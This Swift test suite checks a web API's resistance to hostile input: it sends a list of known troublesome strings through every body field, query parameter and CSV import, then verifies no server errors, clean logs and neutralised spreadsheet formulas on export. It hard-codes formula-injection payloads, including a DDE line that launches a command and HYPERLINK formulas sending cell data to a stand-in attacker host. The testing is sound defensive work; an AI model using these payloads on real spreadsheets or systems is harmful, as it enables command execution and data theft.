import API
import Formats
import Foundation
import Postgres
import TestSupport
import Testing
import Vivier

@testable import Web

private let strings = repositoryRoot.deletingLastPathComponent().appending(path: "shared/data/bad-input/blns/blns_part1.json")

/// Strings that have broken other programs, through every text that the API takes: each field of each body and each parameter, found in the
/// description of the API, so that none is forgotten.
@Suite(.enabled(if: FileManager.default.fileExists(atPath: strings.path), "the reference data is not here"), .timeLimit(.minutes(15)))
struct HostileFieldTests {
    /// By operation: where texts stand in its body (`skills`, `0`, `skill`), and its parameters that are texts.
    private let fields: [String: [[String]]]
    private let parameters: [String: [String]]
    private let texts: [String]

    init() throws {
        let description = try FieldPlaces()
        fields = Dictionary(uniqueKeysWithValues: Endpoints.all.map { ($0.operation, description.fields(of: $0, ["string"])) })
        parameters = Dictionary(uniqueKeysWithValues: Endpoints.all.map { ($0.operation, description.parameters(of: $0, ["string"])) })
        texts = try JSONDecoder().decode([String].self, from: Data(contentsOf: strings))
    }

    @Test func `no text of any field breaks anything, and none is obeyed`() async throws {
        try await TestSite.serve { site in
            let world = try await World.build(in: site.given)
            var (count, sent, taken) = (0, 0, 0)
            for endpoint in Endpoints.all {
                let places = fields[endpoint.operation] ?? []
                guard !places.isEmpty, let example = Example.all[endpoint.operation], let body = example.body,
                    example.type == "application/json"
                else { continue }
                let role: Role =
                    endpoint.needs.roles.contains(.operator) ? .operator : try #require(endpoint.needs.roles.min { "\($0)" < "\($1)" })
                let asking = Example.Asking(world: world, side: .own, role: role)
                let plain = try JSONSerialization.jsonObject(with: Data(try await body(asking).utf8))
                let path = try await world.path(of: endpoint, role) + example.query(asking)
                count += places.count
                // Every string through each endpoint, and each field gets its share of them; all of them where that is asked for, which takes long.
                let stride = ProcessInfo.processInfo.environment["VIVIER_HOSTILE"] == "all" ? 1 : min(places.count, 8)
                for (turn, place) in places.enumerated() {
                    for (number, text) in texts.enumerated() where (number + turn) % stride == 0 {
                        let bytes = try JSONSerialization.data(withJSONObject: FieldPlaces.value(plain, with: text, at: place[...]))
                        let answer = try await site.send(
                            endpoint.method.rawValue, path, token: world.token(role), body: bytes, type: "application/json",
                            headers: try await world.version(for: endpoint, at: path, on: site))
                        sent += 1
                        if answer.status < 300 { taken += 1 }
                        #expect(
                            answer.status < 500 && answer.status != 429,
                            "\(endpoint.operation) \(place.joined(separator: ".")) \(text.debugDescription): \(answer.status) \(answer.text)"
                        )
                    }
                }
            }
            #expect(count > 60 && sent > Endpoints.all.count { $0.method != .get } * 50 && taken > 1_000, "\(count) \(sent)")
            let faults = site.log.all.filter { $0.hasPrefix("error") }
            #expect(faults.isEmpty, "\(faults.prefix(3))")
            expectSoberLog(site)
            print(
                "hostile strings: \(texts.count), in \(count) fields of bodies: \(sent) requests, \(taken) taken, the others refused in words"
            )
        }
    }

    @Test func `no text of any parameter breaks anything`() async throws {
        try await TestSite.serve { site in
            let world = try await World.build(in: site.given)
            var (count, sent, answered) = (0, 0, 0)
            for endpoint in Endpoints.all where endpoint.method == .get {
                let names = parameters[endpoint.operation] ?? []
                guard !names.isEmpty else { continue }
                let role: Role =
                    endpoint.needs.roles.contains(.operator) ? .operator : try #require(endpoint.needs.roles.min { "\($0)" < "\($1)" })
                let path = try await world.path(of: endpoint, role)
                count += names.count
                for (number, text) in texts.enumerated() {
                    let name = names[(number + count) % names.count]
                    let encoded = text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                    let answer = try await site.get("\(path)?\(name)=\(encoded)", token: world.token(role))
                    sent += 1
                    if answer.status < 300 { answered += 1 }
                    // Whoever is sent away for coming too often was not asked.
                    #expect(
                        answer.status < 500 && answer.status != 429,
                        "\(endpoint.operation) \(name) \(text.debugDescription): \(answer.status) \(answer.text)")
                    #expect(answer[header: "Set-Cookie"] == nil && answer[header: "X-Injected"] == nil)
                }
            }
            #expect(count > 20 && sent > 3_000 && answered > 1_000, "\(count) \(sent) \(answered)")
            #expect(site.log.all.allSatisfy { !$0.hasPrefix("error") })
            expectSoberLog(site)
            print("hostile strings in \(count) parameters: \(sent) requests, \(answered) answered, the others refused in words")
        }
    }

    /// A line of the log is one line, without control characters that a terminal obeys, and says none of the texts.
    private func expectSoberLog(_ site: TestSite) {
        let lines = site.log.all
        #expect(lines.count > 100)
        let broken = lines.filter { $0.unicodeScalars.contains { $0.properties.generalCategory == .control || $0.value == 0x2028 } }
        #expect(broken.isEmpty, "\(broken.prefix(3).map(\.debugDescription))")
        let log = Data(lines.joined(separator: "\n").utf8)
        for text in texts where text.utf8.count >= 12 {
            #expect(log.range(of: Data(text.utf8)) == nil, "\(text.debugDescription) is logged")
        }
    }

    /// In through the files that are imported, and out again by those that are exported.
    @Test func `what an import takes an export gives back, and no cell of it is computed`() async throws {
        try await TestSite.serve { site in
            let school = try await site.given.school("École")
            let company = try await site.given.company("Cie")
            let cohort = try await site.given.cohort("M1", of: school)
            let (dean, maker) = (try await site.given.token(.schoolAdmin, of: school), try await site.given.token(.company, of: company))
            func quoted(_ text: String) -> String { "\"" + text.replacing(scalars: "\"", with: "\"\"") + "\"" }
            let formulas = [
                "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "＝1+1", "=HYPERLINK(\"https://evil.example\",\"x\")",
                "x\"\u{301},=1+1", "x;=HYPERLINK(\"https://evil.example\"&A2;\"Lyon\");y",
            ]
            let all = texts + formulas
            var roster = "key,given_name,family_name,email,city\n"
            for (number, text) in all.enumerated() {
                roster += "k\(number),\(quoted(text)),\(quoted(text)),s\(number)@example.org,\(quoted(text))\n"
            }
            let imported = try await site.send(
                "POST", "/api/v1/cohorts/\(cohort)/imports?name=r.csv&skip_rejected=true", token: dean, body: Data(roster.utf8),
                type: "text/csv")
            #expect(imported.status == 200, "\(imported.text.prefix(500))")
            let report: ImportReport = try imported.json()
            #expect(report.new > 200 && report.new + report.rejected == all.count, "\(report.new) + \(report.rejected)")
            let file = try await site.get("/api/v1/cohorts/\(cohort)/export", token: dean)
            #expect(
                file[header: "Content-Disposition"]?.hasPrefix("attachment") == true && file[header: "X-Content-Type-Options"] == "nosniff")
            var reader = try CSVReader(Array(file.body), file: "export.csv")
            var record = CSVRecord()
            var (rows, neutral) = (0, 0)
            while try reader.read(into: &record) {
                rows += 1
                for field in 0..<record.count {
                    let cell = record[field]
                    if let first = cell.unicodeScalars.first, "=+-@\t\r＝＋－＠".unicodeScalars.contains(first) {
                        Issue.record("a spreadsheet computes \(cell.debugDescription)")
                    }
                    if cell.contains(/[;,|\t\r\n][ "]*[=+@-]/) {
                        Issue.record("a spreadsheet that splits it computes \(cell.debugDescription)")
                    }
                    if cell.hasPrefix("'") { neutral += 1 }
                }
            }
            #expect(rows == report.new + 1 && neutral > 10, "\(rows) \(neutral)")
            let again = try await site.send(
                "POST", "/api/v1/cohorts/\(cohort)/imports?name=again.csv", token: dean, body: file.body, type: "text/csv")
            let second: ImportReport = try again.json()
            #expect(second.unchanged == report.new && second.new + second.changed + second.rejected == 0, "\(again.text.prefix(600))")

            var posted = 0
            for (number, text) in texts.enumerated() {
                let row = "c\(number),\(quoted(text)),2027-01-04,2027-03-26,6,\(quoted(text)),\(quoted(text)),\(quoted(text))\n"
                let cases = "reference,title,window_from,window_until,hours_per_week,description,place,skills\n" + row
                let answer = try await site.send(
                    "POST", "/api/v1/cases/imports?name=c.csv", token: maker, body: Data(cases.utf8), type: "text/csv")
                #expect([200, 422].contains(answer.status), "\(text.debugDescription): \(answer.text.prefix(500))")
                if answer.status == 200 { posted += 1 }
            }
            let stored = try await site.given.database.execute("SELECT content->>'title' FROM business_case_version").decode(String.self)
            func plain(_ text: String) -> String {
                text.trimmingCharacters(in: .whitespacesAndNewlines).precomposedStringWithCanonicalMapping
            }
            #expect(stored.count == posted && posted > 100 && Set(stored).isSubset(of: texts.map(plain)), "\(posted)")
            #expect(site.log.all.allSatisfy { !$0.hasPrefix("error") })
            expectSoberLog(site)
            print(
                "hostile strings through imports: \(all.count) students (\(report.new) taken), \(texts.count) cases (\(posted) taken); \(rows - 1) rows exported"
            )
        }
    }
}
